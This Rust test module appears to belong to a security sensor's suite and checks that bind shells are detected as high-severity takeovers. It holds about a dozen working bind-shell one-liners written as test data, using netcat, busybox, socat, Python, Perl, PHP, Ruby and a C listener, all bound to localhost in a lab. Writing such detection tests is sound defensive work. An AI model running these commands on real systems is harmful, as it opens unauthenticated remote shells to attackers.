//! Bind shells: the peer calls, this host answers with a shell.

use std::net::SocketAddr;

use anyhow::ensure;
use sensor_tests::{
    lab::BIND,
    peer::{V4, V6, call, call_udp, free_port},
    suite::Case,
};

const SCRIPTS: [(&str, &[&str], &str); 9] = [
    (
        "traditional_e",
        &["nc.traditional"],
        "nc.traditional -l -s $H -p $P -e /bin/sh",
    ),
    (
        "traditional_c",
        &["nc.traditional"],
        "exec nc.traditional -l -s $H -p $P -c 'exec bash --norc'",
    ),
    ("busybox_e", &["busybox"], "busybox nc -l -p $P $H -e sh"),
    (
        "socat_nofork",
        &["socat"],
        "socat TCP-LISTEN:$P,bind=$H,reuseaddr EXEC:/bin/sh,nofork",
    ),
    (
        "python_dup2",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import socket,os,subprocess
l=socket.create_server((os.environ["H"],int(os.environ["P"]))); s,_=l.accept()
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; subprocess.call(["/bin/sh","-i"])'"#,
    ),
    (
        "python_forking",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import socketserver,os,subprocess
class Shell(socketserver.BaseRequestHandler):
  def handle(self): c=self.request; subprocess.run(["/bin/bash","--norc"],stdin=c,stdout=c,stderr=c)
socketserver.ForkingTCPServer((os.environ["H"],int(os.environ["P"])),Shell).serve_forever()'"#,
    ),
    (
        "perl_accept",
        &["perl"],
        r#"perl -MIO::Socket -e '$l=IO::Socket::INET->new(LocalAddr=>$ENV{H},LocalPort=>$ENV{P},Listen=>1,ReuseAddr=>1);
while($c=$l->accept){ if(!fork){ open STDIN,"<&",$c; open STDOUT,">&",$c; open STDERR,">&",$c; exec "/bin/sh","-i" } close $c }'"#,
    ),
    (
        "php_proc_open",
        &["php"],
        r#"exec php -n -r '$l=stream_socket_server("tcp://".getenv("H").":".getenv("P")); $c=stream_socket_accept($l);
proc_close(proc_open(["/bin/sh"],[$c,$c,$c],$p));'"#,
    ),
    (
        "ruby_spawn",
        &["ruby"],
        r#"ruby -rsocket -e 'c=TCPServer.new(ENV["H"],ENV["P"]).accept; Process.wait(spawn("/bin/sh",[:in,:out,:err]=>c))'"#,
    ),
];

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in SCRIPTS {
        cases.push(Case::new(format!("bind::{name}"), tools, move |lab| lab.bind(script)));
    }
    cases.push(Case::new("bind::c_ipv6", &["gcc"], |lab| {
        let port = free_port(V6)?;
        let program = lab.programs.c("connect.c", &[])?;
        lab.spawn(
            lab.command(program)?
                .args(["listen", "6", "::1", &port.to_string(), "/bin/sh"]),
        )?;
        lab.taken(call(SocketAddr::new(V6, port))?, BIND)
    }));
    // No connection is ever accepted: the first datagram makes the caller the peer.
    cases.push(Case::new("bind::traditional_udp", &["nc.traditional"], |lab| {
        let port = free_port(V4)?;
        lab.bash(
            "exec nc.traditional -u -l -s 127.0.0.1 -p $P -c 'exec sh -i 2>&1'",
            &[("P", &port.to_string())],
        )?;
        let mut peer = call_udp((V4, port).into())?;
        let shell = peer.shell()?;
        let finding = lab.any_finding(peer.ends())?;
        ensure!(
            matches!(finding.text("severity"), "HIGH" | "CRITICAL"),
            "severity is too low: {finding}"
        );
        lab.same(&finding, &shell)?;
        peer.send("exit\n")?;
        lab.ended(&finding)?;
        Ok(())
    }));
    // One server, one caller after another: each is a takeover of its own.
    cases.push(Case::new("bind::one_server_many_callers", &["socat"], |lab| {
        let port = free_port(V4)?;
        let script = "exec socat TCP-LISTEN:$P,bind=127.0.0.1,reuseaddr,fork EXEC:/bin/sh,nofork";
        lab.bash(script, &[("P", &port.to_string())])?;
        for _ in 0..3 {
            lab.taken(call(SocketAddr::new(V4, port))?, BIND)?;
        }
        Ok(())
    }));
    cases
}
